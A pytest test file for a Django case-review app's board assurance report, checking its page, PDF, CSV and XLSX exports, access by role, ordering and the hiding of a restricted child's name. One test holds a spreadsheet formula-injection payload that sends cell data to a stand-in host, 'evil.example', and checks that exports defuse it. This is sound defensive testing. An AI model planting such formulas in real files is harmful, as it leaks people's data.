"""The board assurance report: page, PDF, CSV and XLSX; per review, across reviews, per agency."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pypdfium2
import pytest
from django.urls import reverse
from openpyxl import load_workbook

from casereview.actions import services
from casereview.reviews.models import RestrictedIdentifier
from tests.jobs import run_jobs


@pytest.fixture
def plan(review, make_action, recommendation_two, police_recommendation, health_visiting, police_claire, manager_rob, now):
    RestrictedIdentifier.objects.create(review=review, kind="name", value="Oliver Tremaine", label="Child")
    overdue = make_action(due_date=dt.date(2026, 10, 1), description="Audit strategy meetings")
    make_action(parent=recommendation_two, owner_agency=health_visiting, description="Add dogs to pre-birth checklist",
                due_date=dt.date(2027, 6, 30))
    sa = make_action(parent=police_recommendation, description="Record children at domestic incidents")
    services.add_evidence(action=sa, by=police_claire, description="Briefing", url="https://e.example/b", now=now)
    done = services.complete_action(action=sa, by=police_claire, note="Briefed all officers", expected_version=1, now=now)
    services.verify_completion(action=done, by=manager_rob, expected_version=done.version, now=now)
    return overdue


def test_a_board_member_sees_rag_agency_overdue_single_agency_and_themes_but_no_restricted_identifier(
        client_for, board_margaret, review, plan):
    # Single-agency recommendations reach the board once the review is signed off (findings rule).
    type(review).objects.filter(pk=review.pk).update(stage="action_monitoring")
    page = client_for(board_margaret).get(reverse("actions:board_report")).content.decode()
    assert "Actions by RAG" in page and "Northshire Community Health" in page
    assert "Overdue actions (1)" in page and "Audit strategy meetings" in page
    assert "Northshire Police recommendation 1" in page and "Actioned" in page
    assert "Drift and follow-through" in page
    assert "1 action completed, 1 with evidence, 1 verified by a review manager" in page
    assert "<svg" in page and "Completed actions over time" in page
    assert "Oliver Tremaine" not in page


def test_the_review_report_pdf_is_a_pdf_naming_the_review(client_for, board_margaret, review, plan):
    client = client_for(board_margaret)
    location = client.post(reverse("actions:review_report_export", args=[review.pk, "pdf"]))["Location"]
    run_jobs()  # a background job makes the PDF
    response = client.get(location)
    assert response["Content-Type"] == "application/pdf"
    content = b"".join(response.streaming_content)
    assert content.startswith(b"%PDF")
    document = pypdfium2.PdfDocument(content)
    text = "".join(document[i].get_textpage().get_text_range() for i in range(len(document)))
    assert "LCSPR-2026-003" in text and "Overdue actions" in text
    assert "Oliver Tremaine" not in text


def test_csv_and_xlsx_exports_list_every_action_with_its_rag(client_for, manager_rob, plan):
    client = client_for(manager_rob)
    rows = list(csv.reader(io.StringIO(client.get(reverse("actions:board_report_export", args=["csv"]))
                                       .content.decode("utf-8-sig"))))
    assert rows[0][:2] == ["Review", "Action"] and len(rows) == 4
    assert {r[1]: r[8] for r in rows[1:]}["R1.1"] == "red"
    book = load_workbook(io.BytesIO(client.get(reverse("actions:board_report_export", args=["xlsx"])).content))
    assert book.sheetnames == ["Summary", "Actions"] and book["Actions"].max_row == 4


def test_the_board_report_lists_actions_in_plan_order_whatever_order_they_were_set_in(
        client_for, manager_rob, make_action, recommendation_two, police_recommendation):
    # Set out of order: a single-agency action, then recommendation 2's. The page and the CSV follow the plan
    # (partnership recommendations in number order, then single-agency ones) on both databases, not the order
    # the database stored or grouped them in.
    single = make_action(parent=police_recommendation, description="Single-agency action")
    make_action(parent=recommendation_two, description="Second recommendation, first action")
    make_action(description="First recommendation, first action")
    make_action(description="First recommendation, second action")
    client = client_for(manager_rob)
    rows = list(csv.reader(io.StringIO(client.get(reverse("actions:board_report_export", args=["csv"]))
                                       .content.decode("utf-8-sig"))))
    assert [r[1] for r in rows[1:]] == ["R1.1", "R1.2", "R2.1", single.reference]
    page = client.get(reverse("actions:board_report")).content.decode()
    every = page[page.index("All actions"):]
    positions = [every.index(text) for text in ("First recommendation, first action",
                                                 "First recommendation, second action", "Second recommendation, first action",
                                                 "Single-agency action")]
    assert positions == sorted(positions)


def test_an_unknown_export_format_is_not_found(client_for, manager_rob, plan):
    assert client_for(manager_rob).get(reverse("actions:board_report_export", args=["docx"])).status_code == 404


def test_an_agency_contributor_sees_only_their_own_agencys_actions_in_the_agency_view(client_for, health_tom, plan):
    page = client_for(health_tom).get(reverse("actions:agency_report") + "?agency=1").content.decode()
    assert "Actions for Northshire Community Health" in page
    assert "Add dogs to pre-birth checklist" in page and "Audit strategy meetings" not in page


def test_reviewers_and_contributors_do_not_get_the_board_report(client_for, reviewer_helen, police_claire, plan):
    assert client_for(reviewer_helen).get(reverse("actions:board_report")).status_code == 403
    assert client_for(police_claire).get(reverse("actions:board_report")).status_code == 403


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click for the full record")'


def test_manager_rob_downloads_exports_where_a_formula_typed_into_an_action_is_plain_text(
        client_for, manager_rob, make_action):
    make_action(description=HOSTILE, due_date=dt.date(2027, 3, 31))
    client = client_for(manager_rob)
    header, row = list(csv.reader(io.StringIO(client.get(reverse("actions:board_report_export", args=["csv"]))
                                              .content.decode("utf-8-sig"))))
    columns = dict(zip(header, row, strict=True))
    assert columns["Description"] == "'" + HOSTILE
    assert columns["Due date"] == "2027-03-31" and columns["Named owner"] == ""  # empty, not a lone apostrophe
    sheet = load_workbook(io.BytesIO(client.get(reverse("actions:board_report_export", args=["xlsx"])).content))["Actions"]
    cells = {head.value: cell for head, cell in zip(sheet[1], sheet[2], strict=True)}
    assert cells["Description"].value == "'" + HOSTILE and cells["Description"].data_type == "s"
    assert cells["Due date"].value == dt.datetime(2027, 3, 31) and cells["Due date"].is_date
    assert cells["Named owner"].value is None and cells["Evidence items"].value == 0
